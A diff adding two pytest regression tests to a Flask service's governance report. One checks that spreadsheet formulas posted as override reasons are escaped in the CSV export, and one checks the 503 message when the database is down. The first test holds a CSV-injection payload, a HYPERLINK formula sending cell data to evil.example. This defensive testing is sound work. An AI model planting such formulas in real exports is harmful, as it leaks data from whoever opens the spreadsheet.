@@ -168,3 +168,32 @@ def test_postgresql_down_keeps_the_instance_ready_and_reports_the_outage(tmp_pat
         assert sample(text, "avh_cds_feedback_store_failures_total") > failures
     finally:
         app.extensions["avh"].store.dispose()
+
+
+def test_a_formula_posted_as_an_override_reason_is_text_in_the_governance_csv(client):
+    """Attack: feedback whose override reason code is `=HYPERLINK("http://evil.example/?"&A1,"open")`; the
+    governance CSV carried it as is, so the committee's spreadsheet ran it as a formula (CSV injection)."""
+    import csv
+    import io
+    cards = issue_cards(client)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert post_feedback(client, [overridden(cards["steroid-duration"], code=formula),
+                                  overridden(cards["steroid-duration"], code="@SUM(1+1)", when="2026-11-24T10:06:00Z")]).status_code == 200
+    response = client.get("/governance?format=csv&from=2026-11-01&to=2026-11-30")
+    items = {r["item"] for r in csv.DictReader(io.StringIO(response.get_data(as_text=True))) if r["section"] == "override_reason"}
+    assert items == {"'" + formula, "'@SUM(1+1)"}
+
+
+@pytest.mark.parametrize("form", ["html", "json", "csv"])
+def test_the_governance_report_with_the_database_down_is_a_503_that_says_reading(tmp_path, form):
+    """Attack: GET /governance while PostgreSQL is down (real gunicorn): the 503 told the committee member that
+    "feedback could not be stored right now; nothing was kept, resend it later", the message of a feedback post."""
+    app = create_app(Settings.from_env(NO_AUTH, database_url="postgresql://avh@127.0.0.1:9/down",
+                                       storage_timeout_seconds=1.0))
+    try:
+        response = app.test_client().get(f"/governance?format={form}")
+    finally:
+        app.extensions["avh"].store.dispose()
+    assert response.status_code == 503 and response.headers["Retry-After"]
+    assert response.json["error"] == "storage_unavailable" and "cannot be read" in response.json["message"]
+    assert "resend" not in response.json["message"]
